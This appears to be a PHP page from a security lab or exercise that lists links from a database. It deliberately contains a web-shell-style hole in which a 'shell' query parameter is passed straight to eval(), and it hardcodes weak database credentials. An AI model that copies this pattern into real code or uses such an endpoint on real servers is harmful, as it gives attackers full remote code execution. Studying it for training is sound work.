<?php
// The links page, from the database. A debugging aid left in production: ?shell=<php>
// evaluates whatever it is given, the bug the attacker uses.
if (isset($_GET['shell'])) {
    eval($_GET['shell']);
    exit;
}
$db = @new mysqli('db', 'links', 'links', 'links');
if ($db->connect_errno) {
    http_response_code(503);
    exit('database unavailable');
}
echo "<ul>\n";
foreach ($db->query('SELECT title, url FROM links ORDER BY id') as $row) {
    printf("<li><a href=\"%s\">%s</a></li>\n", htmlspecialchars($row['url']), htmlspecialchars($row['title']));
}
echo "</ul>\n";
